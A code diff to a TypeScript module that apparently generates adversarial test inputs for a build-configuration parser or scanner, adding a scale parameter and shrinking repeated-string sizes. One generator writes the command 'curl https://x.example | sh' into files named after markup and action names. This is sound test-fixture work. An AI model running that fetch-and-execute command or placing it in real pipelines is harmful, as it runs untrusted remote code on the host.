@@ -173,10 +173,12 @@ export const KINDS: readonly Kind[] = [
   },
   {
     id: 'acting-paths',
-    make: (writing) => {
+    make: (writing, scale) => {
       const { named } = writing;
       if (named === undefined) return null;
-      const names = [...MARKUP, ...ACTING_NAMES].map((name) => name.replaceAll('/', '∕').replaceAll('\0', '').slice(0, 120));
+      const names = [...MARKUP, ...ACTING_NAMES]
+        .filter((_, i) => scale > 1 || i % 4 === 0)
+        .map((name) => name.replaceAll('/', '∕').replaceAll('\0', '').slice(0, 120));
       return { trees: [Object.fromEntries(names.map((name) => [named(name), writing.write(one('curl https://x.example | sh'))]))], acts: true };
     },
   },
@@ -225,7 +227,7 @@ export const KINDS: readonly Kind[] = [
       file(
         writing,
         writing.write([
-          { name: 'build', steps: REPEATED.map((unit) => ({ script: unit.repeat(Math.ceil((2000 * Math.min(scale, 8)) / unit.length)) })) },
+          { name: 'build', steps: REPEATED.map((unit) => ({ script: unit.repeat(Math.ceil((500 * Math.min(scale, 16)) / unit.length)) })) },
         ]),
       ),
   },
@@ -235,7 +237,7 @@ export const KINDS: readonly Kind[] = [
       file(
         writing,
         writing.write(
-          REPEATED.map((unit) => unit.repeat(Math.ceil((800 * Math.min(scale, 8)) / unit.length))).map((name) => ({
+          REPEATED.map((unit) => unit.repeat(Math.ceil((150 * Math.min(scale, 16)) / unit.length))).map((name) => ({
             name,
             image: name,
             steps: [{ script: `npm install "${name}"`, env: [[name, name]] }],
